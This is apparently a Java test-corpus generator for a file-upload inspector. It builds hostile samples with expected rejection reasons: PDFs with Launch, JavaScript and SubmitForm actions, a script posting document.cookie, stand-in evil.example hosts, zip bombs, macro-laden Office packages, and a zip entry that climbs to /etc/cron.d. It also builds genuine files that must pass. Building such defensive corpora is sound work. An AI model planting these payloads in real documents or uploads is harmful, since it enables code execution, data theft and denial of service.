package fr.integrance.platform.files;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.function.Consumer;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;

import fr.integrance.platform.FileRejection;

/**
 * The hostile corpus, made by code so that no hostile binary is committed: each file with
 * the name it is uploaded under and the reason it must be refused; and the genuine files
 * that must pass. {@link #main} writes it to a directory (with a manifest) for the drill
 * {@code ops/drills/hostile-uploads.sh}.
 * <p>
 * The office corpus ({@link #hostileDocuments()}, {@link #genuineDocuments()}) is for the
 * inspection of documents kept in a document space: minimal OOXML and OpenDocument
 * packages built with {@code java.util.zip}, with macros, disguises, bombs and climbing
 * names.
 */
public final class HostileFiles {

	/** A file of the corpus: its upload name (may hold NUL or RTL characters). */
	public record Sample(String id, String uploadName, byte[] content, FileRejection expected) {

		@Override
		public String toString() {
			return id;
		}

	}

	/** A genuine file that must be accepted. */
	public record Genuine(String id, String uploadName, byte[] content) {

		@Override
		public String toString() {
			return id;
		}

	}

	private static final String HTML = "<!DOCTYPE html><html><body><script>fetch('/x?c='+document.cookie)</script></body></html>";

	private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

	private HostileFiles() {
	}

	public static List<Sample> hostile() {
		List<Sample> all = new ArrayList<>();
		all.add(new Sample("launch-openaction", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("Launch", COSName.F, new COSString("C:\\Windows\\System32\\cmd.exe")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("launch-page-aa", "attestation.pdf", pdf(doc -> {
			COSDictionary aa = new COSDictionary();
			aa.setItem(COSName.O, action("Launch", COSName.F, new COSString("cmd.exe")));
			doc.getPage(0).getCOSObject().setItem(COSName.AA, aa);
		}), FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("launch-compressed", "attestation.pdf", pdf(
				doc -> catalog(doc).setItem(COSName.OPEN_ACTION, action("Launch", COSName.F, new COSString("cmd.exe"))),
				true), FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("embedded-exe", "attestation.pdf", pdf(doc -> {
			COSDictionary spec = fileSpec(doc);
			COSArray names = new COSArray();
			names.add(new COSString("facture.exe"));
			names.add(spec);
			COSDictionary tree = new COSDictionary();
			tree.setItem(COSName.NAMES, names);
			COSDictionary nameDictionary = new COSDictionary();
			nameDictionary.setItem(COSName.getPDFName("EmbeddedFiles"), tree);
			catalog(doc).setItem(COSName.NAMES, nameDictionary);
		}), FileRejection.EMBEDDED_FILE));
		all.add(new Sample("file-attachment-annotation", "attestation.pdf", pdf(doc -> {
			COSDictionary annotation = new COSDictionary();
			annotation.setItem(COSName.TYPE, COSName.ANNOT);
			annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("FileAttachment"));
			annotation.setItem(COSName.RECT, rect());
			annotation.setItem(COSName.FS, fileSpec(doc));
			annotations(doc).add(annotation);
		}), FileRejection.EMBEDDED_FILE));
		all.add(new Sample("submitform", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("SubmitForm", COSName.F, new COSString("https://evil.example/collect")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("importdata", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("ImportData", COSName.F, new COSString("\\\\evil\\share\\data.fdf")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("javascript-openaction", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("JavaScript", COSName.JS, new COSString("app.alert(1)")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("javascript-object-stream", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("JavaScript", COSName.JS, new COSString("app.alert(1)"))), true),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("javascript-escaped-names", "attestation.pdf",
				latin1(latin1(genuinePdf()).replaceFirst("/Type /Catalog",
						"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("link-javascript-uri", "attestation.pdf",
				pdf(doc -> annotations(doc).add(link(action("URI", COSName.URI, new COSString("javascript:alert(1)")))),
						true),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("link-file-uri", "attestation.pdf",
				pdf(doc -> annotations(doc)
					.add(link(action("URI", COSName.URI, new COSString("file:///C:/Windows/System32/cmd.exe"))))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("gotor-remote", "attestation.pdf",
				pdf(doc -> annotations(doc).add(link(action("GoToR", COSName.F, new COSString("\\\\evil\\x.pdf"))))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("gotoe-embedded", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("GoToE", COSName.NEW_WINDOW, COSName.getPDFName("true")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("richmedia", "attestation.pdf", pdf(doc -> {
			COSDictionary annotation = new COSDictionary();
			annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("RichMedia"));
			annotation.setItem(COSName.RECT, rect());
			annotations(doc).add(annotation);
		}), FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("xfa-form", "attestation.pdf", pdf(doc -> {
			COSDictionary form = new COSDictionary();
			form.setItem(COSName.FIELDS, new COSArray());
			form.setItem(COSName.XFA, new COSString("<xdp:xdp/>"));
			catalog(doc).setItem(COSName.ACRO_FORM, form);
		}), FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("pdf-then-html", "attestation.pdf", concat(genuinePdf(), ascii("\n" + HTML)),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("pdf-html-in-comment", "attestation.pdf", latin1(
				latin1(genuinePdf()).replaceFirst("\n", java.util.regex.Matcher.quoteReplacement("\n%" + HTML + "\n"))),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("pdf-eicar-in-comment", "attestation.pdf",
				latin1(latin1(genuinePdf()).replaceFirst("\n",
						java.util.regex.Matcher.quoteReplacement("\n%" + EICAR + "\n"))),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("jpeg-then-html", "photo.jpg", concat(jpeg(), ascii(HTML)), FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("jpeg-comment-script", "photo.jpg", jpegWithComment("<script>alert(1)</script>"),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("jpeg-trailing-binary", "photo.jpg", concat(jpeg(), new byte[] { 1, 2, 3, 4, 'M', 'Z' }),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("png-then-html", "scan.png", concat(png(), ascii(HTML)), FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("png-trailing-zip", "scan.png", concat(png(), zipBomb()), FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("png-50000x50000", "scan.png", hugePng(50_000, 50_000), FileRejection.TOO_MANY_PIXELS));
		all.add(new Sample("png-100000x1", "scan.png", hugePng(100_000, 1), FileRejection.TOO_MANY_PIXELS));
		all.add(new Sample("jpeg-65000x65000", "photo.jpg", hugeJpeg(), FileRejection.TOO_MANY_PIXELS));
		all.add(new Sample("pdf-flate-bomb-1gb", "attestation.pdf", pdfBomb(false), FileRejection.TOO_COMPLEX));
		all.add(new Sample("pdf-hex-flate-bomb-1gb", "attestation.pdf", pdfBomb(true), FileRejection.TOO_COMPLEX));
		all.add(new Sample("pdf-501-pages", "attestation.pdf", pdfPages(501), FileRejection.TOO_COMPLEX));
		all.add(new Sample("zip-bomb-as-pdf", "attestation.pdf", zipBomb(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("zip-bomb", "archive.zip", zipBomb(), FileRejection.TYPE_NOT_ALLOWED));
		all.add(new Sample("exe-as-pdf", "attestation.pdf", exe(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("elf-as-png", "scan.png", elf(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("html-as-pdf", "attestation.pdf", ascii(HTML), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("svg-as-png", "scan.png",
				ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>"),
				FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("eicar-as-pdf", "attestation.pdf", ascii(EICAR), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("double-extension", "facture.pdf.exe", genuinePdf(), FileRejection.TYPE_NOT_ALLOWED));
		all.add(new Sample("nul-in-name", "facture\u0000.pdf", genuinePdf(), FileRejection.NAME_NOT_ALLOWED));
		all.add(new Sample("rtl-override-name", "facture\u202Efdp.exe", genuinePdf(), FileRejection.NAME_NOT_ALLOWED));
		all.add(new Sample("overlong-name", "a".repeat(300) + ".pdf", genuinePdf(), FileRejection.NAME_NOT_ALLOWED));
		all.add(new Sample("empty", "attestation.pdf", new byte[0], FileRejection.EMPTY));
		byte[] whole = genuinePdf();
		all.add(new Sample("truncated-pdf", "attestation.pdf", java.util.Arrays.copyOf(whole, whole.length / 2),
				FileRejection.UNREADABLE));
		all.add(new Sample("encrypted-pdf", "attestation.pdf", encryptedPdf("secret"), FileRejection.ENCRYPTED));
		all.add(new Sample("encrypted-pdf-no-user-password", "attestation.pdf", encryptedPdf(""),
				FileRejection.ENCRYPTED));
		all.add(new Sample("over-5mb", "attestation.pdf", new byte[5 * 1024 * 1024 + 1], FileRejection.TOO_LARGE));
		return all;
	}

	public static List<Genuine> genuine() {
		return List.of(new Genuine("pdf", "attestation.pdf", genuinePdf()),
				new Genuine("pdf-compressed", "Attestation de droits – été 2026.PDF", pdf(doc -> {
				}, true)),
				new Genuine("pdf-https-link", "attestation.pdf",
						pdf(doc -> annotations(doc)
							.add(link(action("URI", COSName.URI, new COSString("https://www.ameli.fr/assure")))))),
				new Genuine("jpeg", "carte.JPG", jpeg()), new Genuine("jpeg-long-ext", "carte.jpeg", jpeg()),
				new Genuine("png", "scan.png", png()),
				new Genuine("png-with-path", "C:\\Users\\marie\\Documents\\scan.png", png()));
	}

	/**
	 * Writes the corpus and its manifest (id, hex of the upload name, expected reason).
	 */
	public static void main(String[] args) throws IOException {
		Path directory = Path.of(args.length > 0 ? args[0] : "target/hostile-corpus");
		Files.createDirectories(directory);
		StringBuilder manifest = new StringBuilder();
		for (Sample sample : hostile()) {
			Files.write(directory.resolve(sample.id()), sample.content());
			manifest.append(sample.id())
				.append('\t')
				.append(HexFormat.of().formatHex(sample.uploadName().getBytes(StandardCharsets.UTF_8)))
				.append('\t')
				.append(sample.expected())
				.append('\n');
		}
		for (Genuine file : genuine()) {
			Files.write(directory.resolve("genuine-" + file.id()), file.content());
			manifest.append("genuine-")
				.append(file.id())
				.append('\t')
				.append(HexFormat.of().formatHex(file.uploadName().getBytes(StandardCharsets.UTF_8)))
				.append("\tACCEPTED\n");
		}
		Files.writeString(directory.resolve("manifest.tsv"), manifest);
		Path documents = Files.createDirectories(directory.resolve("documents"));
		StringBuilder documentManifest = new StringBuilder();
		for (Sample sample : hostileDocuments()) {
			Files.write(documents.resolve(sample.id()), sample.content());
			documentManifest.append(sample.id())
				.append('\t')
				.append(HexFormat.of().formatHex(sample.uploadName().getBytes(StandardCharsets.UTF_8)))
				.append('\t')
				.append(sample.expected())
				.append('\n');
		}
		for (Genuine file : genuineDocuments()) {
			Files.write(documents.resolve("genuine-" + file.id()), file.content());
			documentManifest.append("genuine-")
				.append(file.id())
				.append('\t')
				.append(HexFormat.of().formatHex(file.uploadName().getBytes(StandardCharsets.UTF_8)))
				.append("\tACCEPTED\n");
		}
		Files.writeString(documents.resolve("manifest.tsv"), documentManifest);
	}

	// --- the office corpus (document spaces)

	private static final String WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

	private static final String EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

	private static final String POWERPOINT_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";

	/**
	 * Office files a document space must refuse, each with its reason (for
	 * {@code inspectDocument}).
	 */
	public static List<Sample> hostileDocuments() {
		List<Sample> all = new ArrayList<>();
		all.add(new Sample("docm-extension", "rapport.docm", docx(), FileRejection.MACROS));
		all.add(new Sample("xltm-extension", "modele.xltm", xlsx(), FileRejection.MACROS));
		all.add(new Sample("docx-vba-project", "rapport.docx",
				ooxml("word/document.xml", WORD_MAIN, entry("word/vbaProject.bin", exe())), FileRejection.MACROS));
		all.add(new Sample("docx-macro-content-type", "rapport.docx",
				ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
				FileRejection.MACROS));
		all.add(new Sample(
				"xlsm-renamed-xlsx", "budget.xlsx", ooxml("xl/workbook.xml",
						"application/vnd.ms-excel.sheet.macroEnabled.main+xml", entry("xl/vbaProject.bin", exe())),
				FileRejection.MACROS));
		all.add(new Sample("docx-activex", "rapport.docx", ooxml("word/document.xml", WORD_MAIN,
				entry("word/activeX/activeX1.xml", ascii("<ax:ocx/>")), entry("word/activeX/activeX1.bin", exe())),
				FileRejection.MACROS));
		all.add(new Sample("docx-embedded-exe", "rapport.docx",
				ooxml("word/document.xml", WORD_MAIN, entry("word/embeddings/oleObject1.bin", exe())),
				FileRejection.MACROS));
		all.add(new Sample("docx-remote-template", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
				"word/_rels/settings.xml.rels",
				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
						+ "Target=\"https://evil.example/modele.dotm\" TargetMode=\"External\"/></Relationships>"))),
				FileRejection.MACROS));
		all.add(new Sample("docx-mhtml-ole-link", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
				"word/_rels/document.xml.rels",
				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
						+ "Target=\"mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html\" TargetMode=\"External\"/></Relationships>"))),
				FileRejection.MACROS));
		all.add(new Sample("docx-embedded-xlsm", "rapport.docx",
				ooxml("word/document.xml", WORD_MAIN,
						entry("word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", xlsx())),
				FileRejection.MACROS));
		all.add(new Sample("docx-unc-image", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
				"word/_rels/document.xml.rels",
				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" "
						+ "Target=\"\\\\evil.example\\share\\pixel.png\" TargetMode=\"External\"/></Relationships>"))),
				FileRejection.MACROS));
		all.add(new Sample("odt-basic-macro", "courrier.odt", odf("application/vnd.oasis.opendocument.text",
				List.of("Basic/Standard/Module1.xml", "Basic/script-lc.xml"),
				entry("Basic/Standard/Module1.xml", ascii(
						"<script:module script:name=\"Module1\">Sub Main : Shell(\"calc.exe\") : End Sub</script:module>")),
				entry("Basic/script-lc.xml", ascii("<library:libraries/>"))), FileRejection.MACROS));
		all.add(new Sample("ods-python-script", "budget.ods",
				odf("application/vnd.oasis.opendocument.spreadsheet", List.of("Scripts/python/run.py"),
						entry("Scripts/python/run.py", ascii("import os; os.system('calc')"))),
				FileRejection.MACROS));
		all.add(new Sample("odt-event-listener", "courrier.odt", odf("application/vnd.oasis.opendocument.text",
				List.of(),
				entry("content.xml", ascii("<office:document-content><office:scripts><office:event-listeners>"
						+ "<script:event-listener script:language=\"ooo:script\" script:event-name=\"office:load\" "
						+ "xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application\"/>"
						+ "</office:event-listeners></office:scripts><office:body/></office:document-content>"))),
				FileRejection.MACROS));
		all.add(new Sample("legacy-doc", "courrier.doc", ole2(false), FileRejection.LEGACY_OFFICE_FORMAT));
		all.add(new Sample("legacy-xls", "budget.xls", ole2(false), FileRejection.LEGACY_OFFICE_FORMAT));
		all.add(new Sample("legacy-doc-renamed-docx", "courrier.docx", ole2(false),
				FileRejection.LEGACY_OFFICE_FORMAT));
		all.add(new Sample("encrypted-ooxml", "rapport.docx", ole2(true), FileRejection.ENCRYPTED));
		all.add(new Sample("odt-encrypted", "courrier.odt", odfEncrypted(), FileRejection.ENCRYPTED));
		all.add(new Sample("zip-bomb-docx", "rapport.docx",
				ooxml("word/document.xml", WORD_MAIN, entry("word/media/image1.png", null)),
				FileRejection.TOO_COMPLEX));
		all.add(new Sample("too-many-entries-docx", "rapport.docx", manyEntriesDocx(10_001),
				FileRejection.TOO_COMPLEX));
		all.add(new Sample("traversal-entry", "rapport.docx",
				ooxml("word/document.xml", WORD_MAIN, entry("../../../../etc/cron.d/evil", ascii("* * * * * root sh"))),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("absolute-entry", "rapport.docx",
				ooxml("word/document.xml", WORD_MAIN, entry("/tmp/evil.sh", ascii("sh"))),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("windows-traversal-entry", "rapport.docx",
				ooxml("word/document.xml", WORD_MAIN, entry("..\\..\\evil.bat", ascii("calc"))),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("docx-then-html", "rapport.docx", concat(docx(), ascii(HTML)),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("central-directory-disagrees", "rapport.docx", centralNamePatched(),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("zip-encrypted-entry", "rapport.docx", centralFlagPatched(), FileRejection.ENCRYPTED));
		all.add(new Sample("docx-renamed-xlsx", "budget.xlsx", docx(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("odt-renamed-docx", "courrier.docx",
				odf("application/vnd.oasis.opendocument.text", List.of()), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("docx-renamed-odt", "courrier.odt", docx(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("odg-renamed-odp", "diaporama.odp",
				odf("application/vnd.oasis.opendocument.graphics", List.of()), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("plain-zip-named-docx", "rapport.docx",
				zip(entry("rapport.txt", ascii("Bonjour")), entry("photo.jpg", jpeg())),
				FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("pdf-named-docx", "rapport.docx", genuinePdf(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("exe-named-xlsx", "budget.xlsx", exe(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("template-dotx", "modele.dotx", docx(), FileRejection.TYPE_NOT_ALLOWED));
		all.add(new Sample("empty-docx", "rapport.docx", new byte[0], FileRejection.EMPTY));
		return all;
	}

	/** Files a document space must accept: the office formats and the attachments'. */
	public static List<Genuine> genuineDocuments() {
		List<Genuine> all = new ArrayList<>(genuine());
		all.add(new Genuine("docx", "Compte rendu.docx", docx()));
		all.add(new Genuine("xlsx", "Budget 2026.XLSX", xlsx()));
		all.add(new Genuine("pptx", "presentation.pptx", pptx()));
		all.add(new Genuine("odt", "courrier.odt", odf("application/vnd.oasis.opendocument.text", List.of())));
		all.add(new Genuine("ods", "budget.ods", odf("application/vnd.oasis.opendocument.spreadsheet", List.of())));
		all.add(new Genuine("odp", "diaporama.odp", odf("application/vnd.oasis.opendocument.presentation", List.of())));
		all.add(new Genuine("docx-https-link", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
				"word/_rels/document.xml.rels",
				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
						+ "Target=\"https://www.ameli.fr/assure\" TargetMode=\"External\"/></Relationships>")),
				entry("word/media/image1.png", png()))));
		return all;
	}

	/** One zip entry; a null content stands for 100 MB of zeros (a bomb). */
	record Entry(String name, byte @org.jspecify.annotations.Nullable [] content, boolean stored) {
	}

	static Entry entry(String name, byte @org.jspecify.annotations.Nullable [] content) {
		return new Entry(name, content, false);
	}

	static byte[] docx() {
		return ooxml("word/document.xml", WORD_MAIN);
	}

	static byte[] xlsx() {
		return ooxml("xl/workbook.xml", EXCEL_MAIN);
	}

	static byte[] pptx() {
		return ooxml("ppt/presentation.xml", POWERPOINT_MAIN);
	}

	/** A minimal OOXML package: content types, package relationships, the main part. */
	private static byte[] ooxml(String mainPart, String mainType, Entry... extra) {
		String types = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
				+ "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
				+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
				+ "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
				+ "<Default Extension=\"png\" ContentType=\"image/png\"/>" + "<Override PartName=\"/" + mainPart
				+ "\" ContentType=\"" + mainType + "\"/></Types>";
		String rels = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
				+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
				+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\""
				+ mainPart + "\"/></Relationships>";
		String main = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
				+ "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
				+ "<w:body><w:p><w:r><w:t>Compte rendu de la réunion</w:t></w:r></w:p></w:body></w:document>";
		List<Entry> entries = new ArrayList<>();
		entries.add(entry("[Content_Types].xml", utf8(types)));
		entries.add(entry("_rels/.rels", utf8(rels)));
		entries.add(entry(mainPart, utf8(main)));
		entries.addAll(List.of(extra));
		return zip(entries.toArray(Entry[]::new));
	}

	/**
	 * A minimal OpenDocument package: the stored {@code mimetype} first, a manifest
	 * (listing {@code extraManifestPaths} too), a content part unless given.
	 */
	private static byte[] odf(String mimetype, List<String> extraManifestPaths, Entry... extra) {
		StringBuilder manifest = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
				+ "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
				+ "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"" + mimetype + "\"/>"
				+ "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>");
		for (String path : extraManifestPaths) {
			manifest.append("<manifest:file-entry manifest:full-path=\"")
				.append(path)
				.append("\" manifest:media-type=\"text/xml\"/>");
		}
		manifest.append("</manifest:manifest>");
		List<Entry> entries = new ArrayList<>();
		entries.add(new Entry("mimetype", ascii(mimetype), true));
		entries.add(entry("META-INF/manifest.xml", utf8(manifest.toString())));
		if (java.util.Arrays.stream(extra).noneMatch(e -> e.name().equals("content.xml"))) {
			entries.add(entry("content.xml", utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
					+ "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
					+ "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.3\">"
					+ "<office:scripts/><office:body><office:text><text:p>Courrier à la caisse</text:p></office:text>"
					+ "</office:body></office:document-content>")));
		}
		entries.addAll(List.of(extra));
		return zip(entries.toArray(Entry[]::new));
	}

	private static byte[] odfEncrypted() {
		String manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
				+ "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">"
				+ "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
				+ "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\" manifest:size=\"900\">"
				+ "<manifest:encryption-data manifest:checksum-type=\"SHA1/1K\" manifest:checksum=\"AAAA\">"
				+ "<manifest:algorithm manifest:algorithm-name=\"Blowfish CFB\" manifest:initialisation-vector=\"AAAA\"/>"
				+ "</manifest:encryption-data></manifest:file-entry></manifest:manifest>";
		return zip(new Entry("mimetype", ascii("application/vnd.oasis.opendocument.text"), true),
				entry("META-INF/manifest.xml", utf8(manifest)), entry("content.xml", new byte[900]));
	}

	/**
	 * A docx whose central directory (what office suites read) names its main part
	 * otherwise than its local header (what a streaming reader sees).
	 */
	private static byte[] centralNamePatched() {
		byte[] docx = docx();
		int at = lastIndexOf(docx, ascii("word/document.xml"));
		docx[at + 12] = 'X';
		return docx;
	}

	/** A docx whose central directory marks its first entry as encrypted. */
	private static byte[] centralFlagPatched() {
		byte[] docx = docx();
		int at = lastIndexOf(docx, new byte[] { 'P', 'K', 1, 2 });
		while (at > 0 && lastIndexOf(java.util.Arrays.copyOf(docx, at), new byte[] { 'P', 'K', 1, 2 }) >= 0) {
			at = lastIndexOf(java.util.Arrays.copyOf(docx, at), new byte[] { 'P', 'K', 1, 2 });
		}
		docx[at + 8] |= 1;
		return docx;
	}

	private static int lastIndexOf(byte[] haystack, byte[] needle) {
		outer: for (int i = haystack.length - needle.length; i >= 0; i--) {
			for (int j = 0; j < needle.length; j++) {
				if (haystack[i + j] != needle[j]) {
					continue outer;
				}
			}
			return i;
		}
		return -1;
	}

	private static byte[] manyEntriesDocx(int count) {
		List<Entry> entries = new ArrayList<>();
		for (int i = 0; i < count; i++) {
			entries.add(entry("word/media/x" + i + ".xml", new byte[0]));
		}
		return ooxml("word/document.xml", WORD_MAIN, entries.toArray(Entry[]::new));
	}

	/**
	 * An OLE2 compound file header (what {@code .doc}, {@code .xls} and
	 * password-protected OOXML files are), with the directory names of an encrypted OOXML
	 * package when asked.
	 */
	private static byte[] ole2(boolean encryptedPackage) {
		byte[] ole = new byte[4096];
		byte[] magic = { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1 };
		System.arraycopy(magic, 0, ole, 0, magic.length);
		ole[0x18] = 0x3E;
		ole[0x1A] = 0x03;
		ole[0x1C] = (byte) 0xFE;
		ole[0x1D] = (byte) 0xFF;
		ole[0x1E] = 0x09;
		ole[0x20] = 0x06;
		byte[] names = (encryptedPackage ? "Root Entry\u0000EncryptionInfo\u0000EncryptedPackage"
				: "Root Entry\u0000WordDocument\u00001Table")
			.getBytes(StandardCharsets.UTF_16LE);
		System.arraycopy(names, 0, ole, 1024, names.length);
		return ole;
	}

	private static byte[] zip(Entry... entries) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			for (Entry entry : entries) {
				ZipEntry zipEntry = new ZipEntry(entry.name());
				byte[] content = entry.content();
				if (entry.stored() && content != null) {
					java.util.zip.CRC32 crc = new java.util.zip.CRC32();
					crc.update(content);
					zipEntry.setMethod(ZipEntry.STORED);
					zipEntry.setSize(content.length);
					zipEntry.setCompressedSize(content.length);
					zipEntry.setCrc(crc.getValue());
				}
				zip.setLevel(content == null ? 9 : Deflater.DEFAULT_COMPRESSION);
				zip.putNextEntry(zipEntry);
				if (content == null) {
					byte[] zeros = new byte[1024 * 1024];
					for (int i = 0; i < 100; i++) {
						zip.write(zeros);
					}
				}
				else {
					zip.write(content);
				}
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	// --- builders

	static byte[] genuinePdf() {
		return pdf(doc -> {
		});
	}

	private static byte[] pdf(Consumer<PDDocument> tweak) {
		return pdf(tweak, false);
	}

	private static byte[] pdf(Consumer<PDDocument> tweak, boolean compressed) {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			PDPage page = new PDPage();
			document.addPage(page);
			try (PDPageContentStream content = new PDPageContentStream(document, page)) {
				content.beginText();
				content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
